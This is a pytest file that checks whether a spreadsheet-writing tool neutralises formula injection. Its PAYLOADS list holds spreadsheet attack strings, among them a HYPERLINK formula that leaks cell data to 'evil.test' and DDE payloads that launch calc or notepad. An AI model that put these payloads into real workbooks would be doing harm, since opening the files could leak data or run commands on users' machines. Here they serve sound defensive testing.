"""Formula injection: text that looks like a formula never becomes one in a workbook we write.

Payloads beginning with ``=``, ``+``, ``-``, ``@``, tab and CR, an ``=HYPERLINK(...)`` and a
DDE ``=cmd|' /C calc'!A0`` are put in customer names, workload names and Next Steps; a note
template override starts the Engagement Note with Next Steps, the FTOP status and the
target queue from the config start with ``=``. One real run (outbox) writes the tracker back
and attaches the queue-move .xlsx. Both workbooks are then read with openpyxl (no cell may
have ``data_type == 'f'``) and converted to CSV by LibreOffice headless (no payload may come
out evaluated: each must appear as the text it was). The figure — cells that became
formulas or were evaluated — is 0.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import shutil
import subprocess
from pathlib import Path

import pytest
from builders import make_tracker, row
from openpyxl import load_workbook
from runhelpers import emls, ftc

PAYLOADS = {
    "eq": "=1+1",
    "plus": "+1+2",
    "minus": "-3+4",
    "at": "@SUM(5,6)",
    "tab": "\t=7+8",
    "cr": "\r=9+10",
    "hyperlink": '=HYPERLINK("http://evil.test/?leak="&A1,"click me")',
    "dde": "=cmd|' /C calc'!A0",
    "dde-plus": "+cmd|' /C calc'!A0",
    "dde-at": "@cmd|' /C calc'!A0",
    "semicolon": "=1+1;=2+2",
}
STATUS = '=HYPERLINK("http://evil.test","status")'
QUEUE = "=cmd|' /C notepad'!A0"
FOLLOWUP = {"atu_sent": dt.date(2026, 10, 1), "discussion_date": dt.date(2026, 10, 15)}


def soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


def to_csv(files: list[Path], out: Path, profile: Path) -> dict[str, list[list[str]]]:
    """Every file's first sheet as CSV rows, converted (and evaluated) by LibreOffice."""
    exe = soffice()
    assert exe
    out.mkdir(exist_ok=True)
    subprocess.run([exe, f"-env:UserInstallation=file://{profile}", "--headless",
                    "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true",
                    "--outdir", str(out), *map(str, files)],
                   check=True, capture_output=True, timeout=180)
    result = {}
    for f in files:
        text = (out / (f.stem + ".csv")).read_text(encoding="utf-8")
        result[f.name] = list(csv.reader(io.StringIO(text, newline="")))
    return result


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    notes = tmp_path / "tpl" / "notes"
    notes.mkdir(parents=True)
    # the note starts with the person's text: the most dangerous position
    (notes / "customer_followup.txt").write_text("{{ workload.next_steps }}", encoding="utf-8")
    (tmp_path / "ftc-office.toml").write_text(
        f'[paths]\ntemplates = "tpl"\n\n[ftop]\nstatus_disengaged = {json.dumps(STATUS)}\n\n'
        '[routing.queues]\nAmericas = "FTCQ Inactive Americas"\nAPJ = "FTCQ Inactive APJ"\n'
        f"EMEA = {json.dumps(QUEUE)}\n", encoding="utf-8")
    rows = [row(f"t-{name}", "Teams" if i % 2 else value, customer=value, next_steps=value,
                **FOLLOWUP) for i, (name, value) in enumerate(PAYLOADS.items())]
    path = make_tracker(tmp_path / "tracker.xlsx", rows)
    wb = load_workbook(path)  # the person typed text ('=1+1 in Excel), not formulas
    for ws in wb.worksheets:
        for line in ws.iter_rows():
            for cell in line:
                if cell.data_type == "f":
                    cell.data_type = "s"
    wb.save(path)
    return tmp_path


def run_payloads(project: Path) -> tuple[Path, Path, list[str]]:
    """Run the payload tracker; (tracker, queue-move attachment, cells openpyxl reads as
    formulas), after checking that the written cells hold the payloads as text."""
    tracker, outbox = project / "tracker.xlsx", project / "outbox"
    result = ftc("run", str(tracker), "--as-of", "2026-11-26", "--no-dry-run",
                 "--outbox-mode", "pickup", "--outbox",
                 str(outbox), "--yes")
    assert result.exit_code == 0, result.output
    assert "sent 12 message(s)" in result.stdout, result.stdout  # 11 follow-ups, 1 queue move
    (move,) = [m for n, m in emls(outbox).items() if n.startswith("queue_move")]
    (att,) = [p for p in move.iter_attachments() if str(p.get_filename()).endswith(".xlsx")]
    attachment = project / "queue-move.xlsx"
    attachment.write_bytes(att.get_content())

    formulas: list[str] = []
    for path in (tracker, attachment):
        for ws in load_workbook(path).worksheets:
            for line in ws.iter_rows():
                formulas += [f"{path.name}!{c.coordinate}: {c.value!r}" for c in line
                             if c.data_type == "f"]
    # the written cells hold the payloads as text
    wb = load_workbook(tracker)
    ws = wb.active
    assert ws is not None
    head = {c.value: c.column for c in ws[1]}
    notes = {ws.cell(r, head["Engagement Note"]).value for r in range(2, ws.max_row + 1)}
    disengaged = [v for v in notes if v and "Disengagement Process" in str(v)]
    assert len(disengaged) == len(PAYLOADS), notes
    statuses = {ws.cell(r, head["FTOP Status"]).value for r in range(2, ws.max_row + 1)}
    queues = {ws.cell(r, head["Target Queue"]).value for r in range(2, ws.max_row + 1)}
    assert statuses == {STATUS} and queues == {QUEUE}
    return tracker, attachment, formulas


def test_no_text_becomes_a_formula(project: Path) -> None:
    _tracker, _attachment, formulas = run_payloads(project)
    assert formulas == []


@pytest.mark.slow  # starts LibreOffice
def test_libreoffice_evaluates_no_written_text(project: Path) -> None:
    if soffice() is None:
        pytest.skip("LibreOffice is not installed")
    tracker, attachment, formulas = run_payloads(project)
    sheets = to_csv([tracker, attachment], project / "csv", project / "lo-profile")
    evaluated: list[str] = []
    tracker_text = "\n".join(",".join(r) for r in sheets["tracker.xlsx"])
    for value in (STATUS, QUEUE):
        if value not in tracker_text:
            evaluated.append(f"tracker.xlsx: {value!r} not found as text")
    att_rows = sheets["queue-move.xlsx"]
    for name, value in PAYLOADS.items():
        shown = value.replace("\r", "").lstrip("\t")  # control characters are dropped
        if not any(shown in cell for r in att_rows for cell in r):
            evaluated.append(f"queue-move.xlsx: {name} {value!r} not found as text")
    for r in [*att_rows, *sheets["tracker.xlsx"]]:
        for cell in r:
            if cell.startswith(("Err:", "#NAME", "#REF", "#VALUE")) or cell in ("2", "click me"):
                evaluated.append(f"evaluated cell {cell!r}")
    print(f"formula injection: {len(formulas) + len(evaluated)} cells became formulas or "
          "were evaluated")
    assert formulas == []
    assert evaluated == []


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_engagement_note_starting_with_a_formula_is_text(project: Path, name: str) -> None:
    """The note cell itself is exactly the payload (the note template starts with it)."""
    tracker = make_tracker(project / "one.xlsx", [
        row("t-x", "Teams", next_steps=PAYLOADS[name].replace("\r", "_x000D_"), **FOLLOWUP),
        row("t-x", "Intune", atu_sent=dt.date(2026, 10, 1))])  # keeps the tenant engaged
    wb = load_workbook(tracker)
    for line in wb.worksheets[0].iter_rows():
        for cell in line:
            if cell.data_type == "f":
                cell.data_type = "s"
    wb.save(tracker)
    result = ftc("run", str(tracker), "--as-of", "2026-11-26", "--no-dry-run",
                 "--outbox-mode", "pickup", "--outbox",
                 str(project / "outbox"), "--yes")
    assert result.exit_code == 0, result.output
    ws = load_workbook(tracker).active
    assert ws is not None
    head = {c.value: c.column for c in ws[1]}
    (note,) = [ws.cell(r, head["Engagement Note"]) for r in range(2, ws.max_row + 1)
               if ws.cell(r, head["Workload"]).value == "Teams"]
    assert note.data_type != "f"
    assert note.value == PAYLOADS[name].strip()
